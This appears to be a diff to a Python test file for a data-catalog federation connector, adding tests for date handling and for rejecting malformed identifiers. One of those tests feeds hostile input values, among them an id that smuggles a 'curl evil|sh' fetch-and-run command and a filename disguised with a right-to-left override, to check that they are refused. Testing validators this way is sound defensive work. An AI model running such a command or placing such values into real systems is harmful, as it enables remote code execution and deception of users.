@@ -9,6 +9,7 @@ import pytest
 
 from connector.errors import BadMessage
 from connector.federation import reading
+from connector.federation.documents import document_of
 from connector.ports.catalog import Product
 from connector.ports.index import Document
 from tests.describe import corpus
@@ -24,7 +25,7 @@ def dataset(**members: Any) -> dict[str, Any]:
 def document(tree: dict[str, Any], *, via: tuple[str, ...] = ()) -> Document:
     entry = reading.entry_of(tree, origin="did:web:a", endpoint="https://a.example/dsp", via=via)
     product = Product(number=7, entry=entry, member="did:web:a", added_at=NOW, changed_at=NOW, seen_at=NOW)
-    return reading.document_of(product, space="north", publisher="A & Co")
+    return document_of(product, space="north", publisher="A & Co")
 
 
 def test_a_description_of_ours_fills_every_facet() -> None:
@@ -37,7 +38,7 @@ def test_a_description_of_ours_fills_every_facet() -> None:
         "region": ("USA",),
         "format": ("text/csv",),
         "grade": ("general",),
-        "price": ("up to 100",),
+        "price": ("up to 100 EUR",),
         "currency": ("EUR",),
         "origin": ("did:web:a",),
         "language": ("en", "de", "zh", "fr"),
@@ -108,6 +109,27 @@ def test_the_digest_covers_everything_that_is_shown() -> None:
     assert digest(dataset()) == same
     others = [digest(dataset(x=1)), digest(dataset(), "b"), digest(dataset(), "a", "f"), digest(dataset(), "a", "e", ("c",))]
     assert len({same, *others}) == 5
+
+
+@pytest.mark.parametrize("said", ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00"])
+def test_a_date_beyond_the_calendar_of_utc_is_none(said: str) -> None:
+    assert reading.moment(said) is None
+    assert document(dataset(**{"dct:modified": said})).modified_s == 0
+
+
+def test_who_says_that_its_data_changed_in_the_future_is_not_the_latest_for_it() -> None:
+    changed = [
+        document(dataset(**{"dct:modified": day})).modified_s
+        for day in ("2026-11-22", "2026-11-23", "2026-11-25", "9999-12-31")
+    ]
+    assert changed[0] < changed[1]
+    assert changed[2:] == [0, 0]
+
+
+@pytest.mark.parametrize("id_", ["urn:a\x15curl evil|sh", "urn:\u202egnp.exe", "ü" * 600])
+def test_an_id_that_nobody_can_see_or_keep_is_refused(id_: str) -> None:
+    with pytest.raises(BadMessage, match="id"):
+        reading.entry_of(dataset(**{"@id": id_}), origin="a", endpoint="https://a.example")
 
 
 def test_markup_that_was_taken_stays_text() -> None:
